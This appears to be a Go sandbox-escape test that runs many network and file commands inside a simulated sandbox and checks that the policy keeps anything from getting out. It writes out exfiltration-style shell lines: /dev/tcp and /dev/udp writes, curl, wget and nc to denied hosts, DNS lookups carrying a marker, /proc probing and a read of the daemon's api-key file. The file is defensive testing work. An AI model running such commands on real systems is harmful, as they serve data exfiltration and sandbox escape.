package escape

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/carrel-dev/carrel"
	"github.com/carrel-dev/carrel/test/escape/plan"
)

// TestSim tries everything that a sandbox without real processes could try. Only traffic that the
// policy allows may arrive. Under allowAll the stranger outside must be reached, which shows that
// the attempts are real, and nobody else may be.
func TestSim(t *testing.T) {
	h := openHouse(t, carrel.Sim)
	for name, n := range map[string]carrel.Network{"list": allowList(false), "allow": allowAll()} {
		t.Run(name, func(t *testing.T) {
			h.world.Forget()
			p := h.plan
			p.Run = newPlan().Run
			sb, err := h.svc.Create(t.Context(), carrel.CreateOptions{Tier: carrel.Sim, Network: n})
			if err != nil {
				t.Fatal(err)
			}
			c, err := h.svc.Computer(t.Context(), sb.ID)
			if err != nil {
				t.Fatal(err)
			}
			// Listed destinations are reached, as in every tier. Try the others.
			targets := append([]string{plan.Denied.V4 + ":443", "127.0.0.1:80"}, append(h.plan.Host, h.plan.Doors...)...)
			mark := p.Marker("tcp4")
			var scripts []string
			for _, at := range targets {
				host, port, _ := strings.Cut(at, ":")
				for _, s := range []string{"echo %[1]s > /dev/tcp/%[2]s/%[3]s", "echo %[1]s > /dev/udp/%[2]s/%[3]s", "exec 3<>/dev/tcp/%[2]s/%[3]s && echo %[1]s >&3",
					"curl -m 5 http://%[2]s:%[3]s/%[1]s", "wget -t 1 -T 5 -O- http://%[2]s:%[3]s/%[1]s", "echo %[1]s | nc -w 5 %[2]s %[3]s"} {
					scripts = append(scripts, fmt.Sprintf(s, mark, host, port))
				}
			}
			scripts = append(scripts, "ping -c 1 "+mark+"."+plan.Wild, "nslookup "+mark+"."+plan.Wild, "getent hosts "+mark+"."+plan.Wild,
				"echo "+mark+" > "+h.plan.Path, "cat "+h.plan.Path, "cat /proc/net/tcp", "ls /proc/1/root/", "cat "+h.daemon.Dir+"/api-key")
			for _, s := range scripts {
				r, err := c.Run(t.Context(), carrel.Command{Shell: s, Timeout: 30 * time.Second})
				if err != nil {
					t.Fatal(s, err)
				}
				if strings.Contains(string(r.Stdout), h.daemon.Key) {
					t.Errorf("%s: %s", s, r.Stdout)
				}
			}
			if err := h.svc.Kill(t.Context(), sb.ID); err != nil {
				t.Fatal(err)
			}
			found, touched := h.world.Arrived(t, p)
			if name == "allow" {
				if touched["denied"] == 0 {
					t.Error("nothing got out where all is allowed")
				}
				delete(found, "tcp4")
				delete(touched, "denied")
			}
			if len(found)+len(touched) > 0 {
				t.Errorf("something got out: %v, %v", found, touched)
			}
		})
	}
}
